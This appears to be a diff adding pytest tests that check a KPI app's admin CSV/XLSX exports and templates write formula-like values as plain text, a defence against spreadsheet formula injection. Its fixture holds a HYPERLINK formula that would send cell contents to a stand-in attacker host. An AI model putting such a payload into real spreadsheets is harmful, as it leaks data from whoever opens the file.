@@ -531,3 +531,45 @@ def test_periods_are_worded_in_english_on_english_pages():
         assert period_wording(datetime.date(2024, 6, 30), "quarterly", True) == (
             "2024, months 1–6 (year to date)"
         )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+EXPORT_FIELDS = ["indicator", "indicator_name", "unit", "period", "period_end", "value"]
+EXPORT_FIELDS += ["note", "evidence_url", "status"]
+
+
+def admin_export(client, file_format):
+    fields = {f"actualresource_{name}": "on" for name in EXPORT_FIELDS}
+    data = {"format": str(file_format), "resource": "0", **fields}
+    return client.post("/admin/kpis/actual/export/", data).content
+
+
+@pytest.fixture
+def formula_figure(make_indicator, department, make_actual):
+    indicator = make_indicator(name="=1+1", department=department, target="100")
+    return make_actual(indicator, period_end=MARCH, value="40", note=FORMULA)
+
+
+def test_admin_csv_export_writes_formulas_as_plain_text(client, admin_user, formula_figure):
+    client.force_login(admin_user)
+    lines = admin_export(client, CSV).decode("utf-8-sig").splitlines()
+    assert lines[0].startswith("指标代码,指标名称,计量单位,报告期,报告期末,数值,内部备注")
+    assert ",'=1+1," in lines[1] and ",\"'=HYPERLINK(" in lines[1]
+
+
+def test_admin_xlsx_export_writes_formulas_as_plain_text(client, admin_user, formula_figure):
+    client.force_login(admin_user)
+    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, XLSX))).active
+    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
+    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
+    assert (cells["指标名称"].value, cells["内部备注"].value) == ("'=1+1", "'" + FORMULA)
+    assert {cells["指标名称"].data_type, cells["内部备注"].data_type} == {"s"}
+
+
+def test_template_writes_an_indicator_name_that_looks_like_a_formula_as_text(
+    entry, make_indicator, department
+):
+    make_indicator(name="=1+1", department=department, target="100")
+    sheet, header, rows = template_rows(entry)
+    assert rows[0][header.index("指标名称")] == "'=1+1"
+    assert sheet.cell(row=2, column=header.index("指标名称") + 1).data_type == "s"
